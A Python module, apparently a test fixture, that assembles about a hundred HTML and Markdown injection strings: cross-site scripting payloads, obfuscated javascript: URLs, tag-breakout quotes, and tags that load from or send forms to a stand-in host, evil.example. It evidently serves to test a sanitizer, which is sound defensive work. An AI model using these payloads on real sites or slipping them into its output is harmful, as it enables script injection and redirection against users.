"""A hundred texts that try to run something, load something or leave their place on the page."""

_RUN = "document.title='owned'"
_ADDRESSES = (
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"java\tscript:{_RUN}", f"java&#10;script:{_RUN}",
    f"&#106;avascript:{_RUN}", f"javascript&colon;{_RUN}", f"%6Aavascript:{_RUN}", f"\x01javascript:{_RUN}",
    f"vbscript:{_RUN}", f"data:text/html,<script>{_RUN}</script>", "data:image/svg+xml;base64,PHN2Zy8+",
    "file:///etc/passwd", "blob:x", "//evil.example/x", "/admin", "#x", "?x", "ftp://evil.example", "about:blank",
    f"https:javascript:{_RUN}",
)  # fmt: skip
_TAGS = (
    f"<script>{_RUN}</script>", f"<img src=x onerror=\"{_RUN}\">", f"<svg onload=\"{_RUN}\">",
    f"<svg><script>{_RUN}</script></svg>", f"<iframe srcdoc=\"<script>parent.{_RUN}</script>\"></iframe>",
    f"<body onload=\"{_RUN}\">", f"<details open ontoggle=\"{_RUN}\">x</details>",
    f"<a href=\"javascript:{_RUN}\">x</a>",
    "<style>body{display:none}</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<base href=//evil.example>",
    "<form action=//evil.example><input name=q autofocus></form>", "<object data=//evil.example></object>",
    "<embed src=//evil.example>", f"<math><mtext><script>{_RUN}</script></mtext></math>",
    f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">", "<template><script></script></template>",
    f"<textarea></textarea><script>{_RUN}</script>", "<dialog open id=ask-key>x</dialog>", "<p id=say>x</p>",
    "<p style=\"position:fixed;inset:0\">x</p>", "<p class=skip>x</p>", f"</div></main><script>{_RUN}</script>",
    f"<!--><script>{_RUN}</script>-->", f"<![CDATA[<script>{_RUN}</script>]]>", f"<?php {_RUN} ?>",
    "<video autoplay src=//evil.example>", f"<audio src onerror=\"{_RUN}\">", f"<input onfocus=\"{_RUN}\" autofocus>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>", f"&lt;script&gt;{_RUN}&lt;/script&gt;", f"\\<script>{_RUN}\\</script>",
    f"<x-y onclick=\"{_RUN}\">x</x-y>", f"<marquee onstart=\"{_RUN}\">x</marquee>", "<plaintext>",
)  # fmt: skip
_PLACES = (
    "```{}\ncode\n```", "```python\n{}\n```", "`{}`", "# {}", "> {}", "- {}", "| a |\n|---|\n| {} |",
    "${}$", "$$\n{}\n$$",
    "\\({}\\)", "**{}**", "[{}](https://a.example)", "![{}](https://a.example)", "[x](https://a.example \"{}\")",
)  # fmt: skip
_QUOTES = (f'" onmouseover="{_RUN}', f"'><script>{_RUN}</script>")
INJECTIONS = (
    *_TAGS,
    *(f"[x]({address})" for address in _ADDRESSES),
    *(f"<{address}>" for address in _ADDRESSES[:8]),
    *(f"![x]({address})" for address in _ADDRESSES[:6]),
    *(place.replace("{}", _TAGS[0]) for place in _PLACES),
    *(place.replace("{}", quote) for place in _PLACES[:8] for quote in _QUOTES),
)
